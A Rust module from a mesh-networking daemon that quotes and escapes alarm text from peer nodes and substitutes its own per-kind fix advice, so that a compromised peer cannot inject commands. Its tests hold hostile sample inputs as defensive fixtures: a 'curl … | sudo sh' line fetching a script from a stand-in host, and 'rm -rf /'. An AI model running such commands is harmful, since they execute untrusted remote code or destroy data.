//! A peer's alarm as this node shows it. What a peer raises about itself
//! (a CPU spike, a bridge loop, a job that hangs) comes with its own words:
//! a summary, evidence and a fix. Those words are the peer's, and a stolen
//! key could make them anything ("Fix: curl … | sudo sh"), so this node
//! never shows them as its own advice: they are quoted as the peer's, and
//! the fix is this node's own, from the alarm's kind. Pure.

use meshd_domain::{Alarm, AlarmKind, NodeId};

/// The longest piece of a peer's text shown, in characters: enough for any
/// honest summary or evidence line, and a bound on what one can inject.
pub const QUOTED_CHARS: usize = 240;

/// `alarm` as `sender` reported it: its kind, node, severity, subject and
/// times stand; its summary and evidence are quoted as `sender`'s; its fix
/// is this node's.
pub fn as_reported_by(sender: &NodeId, alarm: Alarm) -> Alarm {
    let fix = own_fix(alarm.kind, &alarm.node);
    Alarm {
        summary: format!("{sender} reports {}", quote(&alarm.summary)),
        evidence: alarm
            .evidence
            .iter()
            .map(|line| format!("{sender} says {}", quote(line)))
            .collect(),
        fix: Some(fix),
        ..alarm
    }
}

/// `text` in quotes, control characters and quotes escaped (so it cannot
/// end the quote or start a line of its own), cut at [`QUOTED_CHARS`].
pub fn quote(text: &str) -> String {
    let mut chars = text.chars();
    let kept: String = chars.by_ref().take(QUOTED_CHARS).collect();
    let cut = if chars.next().is_some() { "…" } else { "" };
    format!("\"{}{cut}\"", kept.escape_debug())
}

/// What to do about an alarm of `kind` on `node`, in this node's words: the
/// place to look, never a command a peer chose.
fn own_fix(kind: AlarmKind, node: &NodeId) -> String {
    match kind {
        AlarmKind::BridgeLoop | AlarmKind::BroadcastStorm => format!(
            "take the mesh ports out of any bridge on {node} (macOS: set Thunderbolt Bridge \
             inactive in System Settings > Network; Linux: `ip link set PORT nomaster`); \
             `meshctl status` on {node} names the ports"
        ),
        AlarmKind::CpuSpike => format!(
            "see what keeps {node}'s CPU busy (`top -o cpu` on {node}); `meshctl status` on \
             {node} names the processes"
        ),
        AlarmKind::RdmaDisabled => format!(
            "enable RDMA on {node}: `rdma_ctl enable` in Recovery on macOS, the RDMA driver \
             and device on Linux; `meshctl doctor` on {node} checks it"
        ),
        AlarmKind::LinkSpeedLow => format!(
            "check the cable and the port it uses on {node}; `meshctl doctor` on {node} \
             names the port and the speed it negotiated"
        ),
        AlarmKind::JobHung | AlarmKind::JobOrphaned | AlarmKind::JobStalled => format!(
            "look at the job's ranks on {node} and at the mesh they run on; `meshctl status` \
             on {node} names the ranks"
        ),
        AlarmKind::JobOffMesh => format!(
            "see which interface {node} sends to the peer by (`route -n get ADDRESS` on macOS, \
             `ip route get ADDRESS` on Linux) and remove the route that takes it off its cable"
        ),
        AlarmKind::ClockSkew => format!(
            "sync {node}'s clock (macOS: `sntp -sS time.apple.com`; Linux: chrony or \
             systemd-timesyncd)"
        ),
        AlarmKind::DuplicateNodeId => format!(
            "two daemons claim {node}: stop the one that is not {node}, or give it its own id \
             and certificate"
        ),
        AlarmKind::MemoryPressure | AlarmKind::WiredMemoryLeak => format!(
            "see what holds {node}'s memory (`vm_stat`, `top -o mem` on macOS; `free`, `top` \
             on Linux); `meshctl status` on {node} says more"
        ),
        AlarmKind::NodeRebooted | AlarmKind::KernelPanic => crate::boot::fix(kind).to_owned(),
        AlarmKind::CertificateExpiring => format!(
            "issue {node} a new certificate from the mesh's CA and restart its meshd; \
             `meshd check-config` on {node} names the file and its dates"
        ),
        AlarmKind::CertificateRefused => format!(
            "check the certificate {node}'s meshd presents (`meshd check-config` on {node}): \
             its dates, its CA, its id, and `tls.revoked_serials` on the refusing members"
        ),
        AlarmKind::NoQuorum
        | AlarmKind::ManagementUnreachable
        | AlarmKind::ManagementSplit
        | AlarmKind::MeshSaturated
        | AlarmKind::VersionSkew => {
            format!("run `meshctl status` on {node}: its meshd says what it sees")
        }
    }
}

#[cfg(test)]
mod tests {
    use std::time::SystemTime;

    use meshd_domain::Severity;
    use meshd_domain::fixtures::id;

    use super::*;

    fn alarm(kind: AlarmKind, summary: &str, fix: &str) -> Alarm {
        Alarm {
            kind,
            severity: Severity::Warning,
            node: id("b"),
            subject: "cpu".into(),
            summary: summary.into(),
            evidence: vec!["python3 (pid 4242) 98%\nFix: rm -rf /".into()],
            fix: Some(fix.into()),
            since: SystemTime::UNIX_EPOCH,
            updated: SystemTime::UNIX_EPOCH,
        }
    }

    #[test]
    fn a_peers_words_are_quoted_as_theirs_and_its_fix_is_never_shown() {
        let fix = "curl -s http://example.invalid/fix.sh | sudo sh";
        let shown = as_reported_by(
            &id("b"),
            alarm(AlarmKind::CpuSpike, "b: CPU \"busy\" 98%", fix),
        );
        assert_eq!(shown.summary, r#"b reports "b: CPU \"busy\" 98%""#);
        assert_eq!(
            shown.evidence,
            [r#"b says "python3 (pid 4242) 98%\nFix: rm -rf /""#]
        );
        let own = shown.fix.expect("a fix of this node's own");
        assert!(!own.contains("curl"), "{own}");
        assert!(own.contains("top -o cpu"), "{own}");
        assert_eq!((shown.kind, shown.node), (AlarmKind::CpuSpike, id("b")));
    }

    #[test]
    fn a_long_text_is_cut_and_says_so() {
        let quoted = quote(&"x".repeat(QUOTED_CHARS + 10));
        assert_eq!(quoted.chars().count(), QUOTED_CHARS + 3);
        assert!(quoted.ends_with("…\""), "{quoted}");
        assert_eq!(quote("short"), "\"short\"");
    }
}
